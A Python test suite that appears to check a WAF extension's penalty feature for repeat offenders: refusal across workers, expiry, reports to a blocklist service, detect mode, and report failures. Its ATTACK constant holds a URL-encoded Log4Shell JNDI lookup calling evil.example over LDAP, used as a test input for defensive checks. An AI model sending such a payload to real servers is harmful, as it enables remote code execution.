"""Repeat offenders: refused for a time by every worker, and reported to a service that must not matter to the answer."""

import itertools
import json
import time

from e2e.case import FORWARDED, Case, config
from harness.bootstrap import Listener, cluster
from harness.envoy import eventually
from harness.upstream import Upstream

ATTACK = "/?q=%24%7Bjndi:ldap://evil.example/a%7D"
DETAILS = "penalty:log4shell"
_clients = itertools.count(1)


def new_client():
    """An address that no test has used before."""
    number = next(_clients)
    return f"203.0.{113 + number // 250}.{number % 250 + 1}"


def penalty(cluster=None, *, duration="10m", timeout="500ms", **more):
    """The section, with a report to `cluster` if there is one."""
    report = {"cluster": cluster, "authority": "blocklist.example", "path": "/v1/offenders", "timeout": timeout}
    return {"denials": 3, "window": "1m", "for": duration, **({"report": report} if cluster else {}), **more}


class Penalty(Case):
    listeners = {
        "main": Listener(config(client=FORWARDED, penalty=penalty("blocklist"))),
        "short": Listener(config(client=FORWARDED, penalty=penalty(duration="1s"))),
        "detect": Listener(config(mode="detect", client=FORWARDED, penalty=penalty("blocklist"))),
        "unknown": Listener(config(client=FORWARDED, penalty=penalty("no-such-cluster"))),
        "down": Listener(config(client=FORWARDED, penalty=penalty("down"))),
        "silent": Listener(config(client=FORWARDED, penalty=penalty("silent", timeout="2s"))),
    }

    @classmethod
    def setUpClass(cls):
        blocklist, silent = Upstream(), Upstream(silent=True)
        for upstream in (blocklist, silent):
            upstream.__enter__()
            cls.addClassCleanup(upstream.__exit__)
        cls.blocklist = blocklist
        # Port 1 is never open: whatever is sent there is refused at once.
        cls.clusters = [cluster("blocklist", blocklist.port), cluster("silent", silent.port), cluster("down", 1)]
        super().setUpClass()

    def ask(self, target, client, on="main", **how):
        return self.send("GET", target, [("X-Forwarded-For", client)], on=on, **how)

    def offend(self, client, on="main"):
        """As many attacks as bring a penalty."""
        for _ in range(3):
            response = self.ask(ATTACK, client, on)
        return response

    def counted(self, name):
        return self.envoy.stats("wasmcustom.backstop_").get(f"wasmcustom.backstop_{name}", 0)

    def test_every_worker_refuses_an_offender_and_nobody_else(self):
        client = new_client()
        self.assert_passes(self.ask("/", client))
        self.assert_refused(self.offend(client), "log4shell")
        for _ in range(20):
            entry = self.assert_refused(self.ask("/", client), DETAILS)
        self.assertEqual((entry["verdict"], entry["family"]), ("denied", "log4shell"))
        self.assert_passes(self.ask("/", new_client()))
        self.assert_refused(self.ask("/", f"{new_client()}, {client}"), DETAILS)
        self.assertEqual(self.send("POST", "/", [("X-Forwarded-For", client)], body="q=1").status, 403)

    def test_it_ends(self):
        client = new_client()
        self.offend(client, "short")
        self.assert_refused(self.ask("/", client, "short"), DETAILS, on="short")
        time.sleep(1.05)
        self.assert_passes(self.ask("/", client, "short"))

    def test_the_service_is_told_once(self):
        self.blocklist.take()
        client, sent = new_client(), self.counted("reports_sent")
        self.offend(client)
        for _ in range(5):
            self.ask("/", client)
        self.assertTrue(eventually(lambda: self.counted("reports_sent") > sent), "no answer was counted")
        (report,) = self.blocklist.take()
        self.assertEqual((report.method, report.target), ("POST", "/v1/offenders"))
        self.assertEqual(report.values("host"), ["blocklist.example"])
        self.assertEqual(report.values("content-type"), ["application/json"])
        told = json.loads(report.body)
        self.assertAlmostEqual(told.pop("until"), time.time() + 600, delta=30)
        self.assertEqual(
            told, {"client": client, "family": "log4shell", "rule": "log4shell-jndi", "count": 3, "enforced": True}
        )

    def test_detect_counts_and_reports_and_lets_pass(self):
        self.blocklist.take()
        client, begun = new_client(), self.counted("penalties_begun")
        self.assert_passes(self.offend(client, "detect"))
        response = self.assert_passes(self.ask("/", client, "detect"))
        self.assertEqual(self.envoy.access(response, "detect")["verdict"], "detected")
        self.assertEqual(self.counted("penalties_begun"), begun + 1)
        told = eventually(self.blocklist.take)
        self.assertIs(json.loads(told[0].body)["enforced"], False)

    def test_a_report_that_fails_is_counted_and_neither_delays_nor_changes_the_answer(self):
        for on in ("unknown", "down", "silent"):
            with self.subTest(on):
                client, failed = new_client(), self.counted("reports_failed")
                began = time.monotonic()
                self.assert_refused(self.offend(client, on), "log4shell", on=on)
                self.assertLess(time.monotonic() - began, 1.9, "the answer waited")
                self.assert_refused(self.ask("/", client, on), DETAILS, on=on)
                self.assertTrue(eventually(lambda: self.counted("reports_failed") > failed), "not counted")
                self.assertEqual(self.counted("reports_failed"), failed + 1)
        self.assert_vm_alive()
